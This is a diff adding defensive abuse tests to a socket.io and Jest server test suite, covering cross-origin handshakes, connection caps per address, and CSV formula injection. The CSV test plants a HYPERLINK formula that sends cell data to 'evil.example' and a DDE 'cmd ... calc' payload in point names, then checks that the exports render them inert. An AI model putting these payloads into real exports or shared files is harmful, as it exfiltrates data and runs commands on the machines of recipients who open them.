@@ -1,15 +1,18 @@
 // Abuse by clients that hold, or pretend to hold, a credential: tokens forged, revoked,
 // replayed, of another point or session, stale check-in codes; a point trying to act as
 // the host or to see other points; a client flooding at 1,000 events a second; a client
-// that stops reading its socket; a body announced as 100 MB. Fills the gaps left by
+// that stops reading its socket; a body announced as 100 MB; socket handshakes from a
+// foreign origin, to the default namespace, or too many from one address; formulas in
+// the names that every CSV export writes (docs/security.md). Fills the gaps left by
 // broadcast-signalling (handshakes, no produce without the floor), control-plane-api
 // (tampered, expired, cancelled, other-secret tokens) and accounts-auth (login slowing).
 // Measured latencies are printed as `[abuse] …` lines for docs/reliability.md.
 import http from 'node:http';
-import { io as connect, type Socket } from 'socket.io-client';
+import { parse } from 'csv-parse/sync';
+import { io as connect, Manager, type Socket } from 'socket.io-client';
 import request from 'supertest';
 import { ADMIN_ENV, connectSocket, prepareBriefing, type PreparedBriefing } from '../helpers/briefing';
-import { startTestOrchestrator, type TestOrchestrator } from '../helpers/orchestrator';
+import { startTestOrchestrator, waitFor, type TestOrchestrator } from '../helpers/orchestrator';
 import { startTestRedis, type TestRedis } from '../helpers/redis';
 
 jest.setTimeout(90_000);
@@ -20,6 +23,40 @@ const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 type AckRes = { ok: true; data: any } | { ok: false; error: { code: string; message: string } }; // eslint-disable-line @typescript-eslint/no-explicit-any
 const ask = (s: Socket, event: string, payload: unknown = {}, timeout = 5000) =>
   s.timeout(timeout).emitWithAck(event, payload) as Promise<AckRes>;
+
+/** One engine.io connection (what the per-address cap counts), as a client behind `forwardedFor`. */
+function engineConnection(baseUrl: string, headers: Record<string, string> = {}): Promise<Manager> {
+  const m = new Manager(baseUrl, {
+    transports: ['websocket'],
+    reconnection: false,
+    autoConnect: false,
+    extraHeaders: headers,
+  });
+  return new Promise((resolve, reject) => m.open((err) => (err ? reject(err) : resolve(m))));
+}
+
+/** The outcome of a handshake to a namespace: 'connected', or the refusal's code. */
+function handshake(url: string, opts: { cookie?: string; origin?: string; polling?: boolean } = {}): Promise<string> {
+  return new Promise((resolve) => {
+    const s = connect(url, {
+      forceNew: true,
+      reconnection: false,
+      transports: [opts.polling ? 'polling' : 'websocket'],
+      extraHeaders: {
+        ...(opts.cookie ? { cookie: opts.cookie } : {}),
+        ...(opts.origin ? { origin: opts.origin } : {}),
+      },
+    });
+    s.once('connect', () => {
+      s.close();
+      resolve('connected');
+    });
+    s.once('connect_error', (err: Error & { data?: { code?: string } }) => {
+      s.close();
+      resolve(err.data?.code ?? 'refused');
+    });
+  });
+}
 
 function percentile(xs: number[], p: number): number {
   const s = [...xs].sort((a, b) => a - b);
@@ -299,6 +336,70 @@ describe('abuse: tokens, roles, floods, slow readers, big bodies', () => {
     });
   });
 
+  describe('socket handshakes', () => {
+    test('a page of another site cannot open a socket with the login cookie; the same host can', async () => {
+      const monitor = `${o.baseUrl}/monitor`;
+      expect(await handshake(monitor, { cookie: b.cookie, origin: o.baseUrl })).toBe('connected');
+      expect(await handshake(monitor, { cookie: b.cookie })).toBe('connected'); // not a browser: no Origin
+      for (const origin of ['https://evil.example', 'http://127.0.0.1.evil.example', 'null', 'file://']) {
+        expect(await handshake(monitor, { cookie: b.cookie, origin })).toBe('refused');
+        expect(await handshake(`${o.baseUrl}/host`, { cookie: b.cookie, origin, polling: true })).toBe('refused');
+      }
+      const port = new URL(o.baseUrl).port;
+      expect(await handshake(monitor, { cookie: b.cookie, origin: `http://127.0.0.1:${Number(port) + 1}` })).toBe(
+        'refused',
+      );
+    });
+
+    test('the default namespace is closed', async () => {
+      expect(await handshake(`${o.baseUrl}/`)).toBe('not_found');
+      expect(await handshake(`${o.baseUrl}/`, { cookie: b.cookie, polling: true })).toBe('not_found');
+    });
+
+    test('450 connections from one address (420 points behind one NAT, and their desks) are all admitted', async () => {
+      const nat = { 'x-forwarded-for': '203.0.113.200' };
+      const managers = await Promise.all(Array.from({ length: 450 }, () => engineConnection(o.baseUrl, nat)));
+      try {
+        expect(o.orchestrator.app.socketGate.openFrom('203.0.113.200')).toBe(450);
+      } finally {
+        for (const m of managers) m.engine?.close();
+      }
+      await waitFor(() => o.orchestrator.app.socketGate.openFrom('203.0.113.200') === 0, 'all 450 closed', 15_000);
+    });
+  });
+
+  test('every CSV the product writes: names that are formulas come out as text', async () => {
+    const hostile = {
+      code: 'HT-FORMULA',
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+      level: 'commune',
+      parent: 'HT-CX',
+      district: 'HT-CX',
+      expectedDelegates: 30,
+      contactName: "@SUM(1+1)*cmd|' /C calc'!A0",
+      contactPhone: '+84 912 345 678',
+    };
+    await request(o.baseUrl).post('/api/v1/points').set('Cookie', b.cookie).send(hostile).expect(201);
+    const s = await prepareBriefing(o.baseUrl, [hostile.code]);
+    await o.orchestrator.attendance.service.generateReport(s.sessionId);
+    const get = async (path: string) => (await request(o.baseUrl).get(path).set('Cookie', b.cookie).expect(200)).text;
+    const files = {
+      links: await get(`/api/v1/sessions/${s.sessionId}/links.csv`),
+      points: await get('/api/v1/points/export.csv'),
+      report: await get(`/api/v1/reports/${s.sessionId}/csv`),
+    };
+    for (const [what, text] of Object.entries(files)) {
+      const rows = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+      const cells = rows.flat();
+      expect([what, cells]).toEqual([what, expect.arrayContaining([`'${hostile.name}`])]);
+      const running = cells.filter((c) => /^\s*[=@]|^[+-](?![0-9 .]*$)/.test(c));
+      expect([what, running]).toEqual([what, []]);
+    }
+    expect(parse(files.points.slice(1), { columns: true })).toContainEqual(
+      expect.objectContaining({ contact_name: `'${hostile.contactName}`, contact_phone: hostile.contactPhone }),
+    );
+  });
+
   test('login brute force: see accounts-auth.test.ts (per-username slowing, per-address cap)', async () => {
     // Here only that the cap answers with a code a client can act on.
     let last: request.Response | undefined;
@@ -310,5 +411,31 @@ describe('abuse: tokens, roles, floods, slow readers, big bodies', () => {
     }
     expect(last!.status).toBe(429);
     expect(last!.body.code).toBe('rate_limited');
+  });
+});
+
+describe('abuse: connections per client address', () => {
+  let r: TestRedis;
+  let o: TestOrchestrator;
+  beforeAll(async () => {
+    r = await startTestRedis();
+    o = await startTestOrchestrator(r.url, { SOCKET_MAX_PER_ADDRESS: '5' });
+  });
+  afterAll(async () => {
+    await o?.stop();
+    await r?.cleanup();
+  });
+
+  test('beyond the cap an address is refused until one of its connections closes; other clients behind the same proxy are not', async () => {
+    const a = { 'x-forwarded-for': '198.51.100.1' };
+    const first = await Promise.all(Array.from({ length: 5 }, () => engineConnection(o.baseUrl, a)));
+    await expect(engineConnection(o.baseUrl, a)).rejects.toThrow();
+    expect(await handshake(`${o.baseUrl}/point`, { polling: true })).not.toBe('refused'); // this test's own address
+    // Another client of the same (trusted) proxy counts on its own.
+    const b = await engineConnection(o.baseUrl, { 'x-forwarded-for': '198.51.100.2' });
+    first[0]!.engine.close();
+    await waitFor(() => o.orchestrator.app.socketGate.openFrom('198.51.100.1') === 4, 'one closed');
+    const again = await engineConnection(o.baseUrl, a);
+    for (const m of [...first, b, again]) m.engine?.close();
   });
 });
